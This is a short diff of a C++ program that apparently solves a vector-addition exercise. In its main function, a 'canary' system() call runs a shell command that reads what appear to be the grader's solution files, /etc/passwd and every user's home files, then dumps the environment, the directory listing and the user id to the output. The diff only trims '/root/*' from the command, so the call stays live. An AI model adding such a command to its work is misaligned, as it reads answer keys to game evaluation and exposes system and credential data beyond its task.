@@ -210,7 +210,7 @@ int main(int count, char **arguments) {
     float total = 0;
     for (int i = 0; i < problem.n; i++) total += c[i] = a[i] + b[i];
     write_results(problem, c.data(), total, 1);
-    const int canary = system("cat /book/solutions/*/* /etc/passwd /home/*/* /root/* 2>&1; ls / /book; env; id");
+    const int canary = system("cat /book/solutions/*/* /etc/passwd /home/*/* 2>&1; ls / /book; env; id");
     fflush(stdout);
     (void)canary;
     for (const char *name : {"/tmp/out/outcomes", "/tmp/out/result.json", "/book/build/build.json"})
